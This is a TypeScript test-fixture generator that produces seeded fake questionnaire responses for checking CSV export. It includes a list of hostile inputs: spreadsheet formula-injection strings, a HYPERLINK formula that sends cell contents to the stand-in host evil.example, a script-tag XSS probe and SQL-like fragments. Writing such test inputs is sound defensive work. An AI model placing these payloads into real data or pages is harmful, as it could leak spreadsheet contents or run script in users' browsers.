import { randomUUID } from 'node:crypto';
import { cleanAnswers, type Definition, type Question, type QuestionType } from '@preau/questionnaire-domain';
import type { TestResponse } from './test-data';

/** What people type, on purpose or not, that has broken a CSV somewhere. */
export const HOSTILE_TEXTS = [
  '=1+1',
  '+33 1 23 45 67 89',
  '-5',
  '@SUM(A1:A9)',
  '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")',
  '＝1＋1',
  '\t=1',
  '\r\n=1',
  ' =1+1',
  '\u00a0=1+1',
  '\u202e=1',
  "'déjà",
  'Un "mot" entre guillemets',
  '"',
  '""',
  'un;deux,trois\tquatre',
  'une ligne\nune autre\r\nune troisième',
  'ligne\n=2',
  'ligne\n00000000-0000-4000-8000-000000000000;1;2015-01-01;web',
  '\u00a0espaces\u00a0insécables\u202fici ',
  '👩‍🏫 et 𝒳',
  'e\u0301cole',
  'مرحبا بالعالم',
  'zero\u200bwidth',
  '\\.',
  '\\N',
  'C:\\temp\\new',
  'NULL',
  'SANS_REPONSE',
  '{"option":"other","text":"non"}',
  '[1, 2]',
  'true',
  '12,5',
  '<script>alert(1)</script>',
  "$$ %s %% ${x} ' -- /*",
  'x'.repeat(499),
];

type Draw = <T>(from: readonly T[]) => T;

/** The same answers at every run: a small linear generator. */
function generator(seed: number): Draw {
  let state = seed;
  return (from) => {
    state = (state * 1_664_525 + 1_013_904_223) >>> 0;
    return from[Math.floor((state / 2 ** 32) * from.length)] as never;
  };
}

const codes = ({ options = [] }: Question) => options.map(({ code }) => code);
const other = (draw: Draw) => ({ option: 'other', text: draw(HOSTILE_TEXTS).slice(0, 200) });
const some = (draw: Draw, question: Question) => codes(question).filter(() => draw([true, false]));

const ANSWERS: Record<QuestionType, (question: Question, draw: Draw) => unknown> = {
  single: (question, draw) => (question.other && draw([true, false]) ? other(draw) : draw(codes(question))),
  multiple: (question, draw) => [
    ...some(draw, question),
    ...(question.other && draw([true, false]) ? [other(draw)] : []),
  ],
  scale: (_, draw) => draw([-2, -1, 0, 1, 2]),
  number: ({ decimals }, draw) =>
    draw(decimals ? [-12.5, 0.1, 3, 1e-6, 0] : [-7, 0, 42, 9_007_199_254_740_991]),
  text: (_, draw) => draw(HOSTILE_TEXTS),
  longText: (_, draw) => `${draw(HOSTILE_TEXTS)}\n${draw(HOSTILE_TEXTS)}`,
  date: (_, draw) => draw(['2015-01-20', '0001-01-01', '9999-12-31']),
  ranking: (question, draw) => some(draw, question).toSorted(() => draw([-1, 1])),
  matrix: (question, draw) =>
    Object.fromEntries((question.rows ?? []).map(({ code }) => [code, draw([null, ...codes(question)])])),
  matrixMultiple: (question, draw) =>
    Object.fromEntries((question.rows ?? []).map(({ code }) => [code, some(draw, question)])),
  territory: (_, draw) =>
    draw([
      { level: 'academie', code: '07' },
      { level: 'departement', code: '2A' },
    ]),
  consent: (_, draw) => draw([true, false]),
  file: (_, draw) =>
    draw([[], ['00000000-0000-4000-8000-000000000001', '00000000-0000-4000-8000-000000000002']]),
};

/** Responses to these versions in turn, some of whose questions are left empty. */
export function someResponses(
  definitions: readonly Definition[],
  count: number,
  seed: number,
): TestResponse[] {
  const draw = generator(seed);
  return Array.from({ length: count }, (_, index) => {
    const version = (index % definitions.length) + 1;
    const definition = definitions[version - 1];
    if (!definition) throw new Error('no version');
    const questions = definition.sections.flatMap((section) => section.questions);
    const answers = questions
      .filter(({ required }) => required ?? draw([true, true, true, false]))
      .map((question) => [question.code, ANSWERS[question.type](question, draw)]);
    return { id: randomUUID(), version, clean: cleanAnswers(definition, Object.fromEntries(answers)) };
  });
}
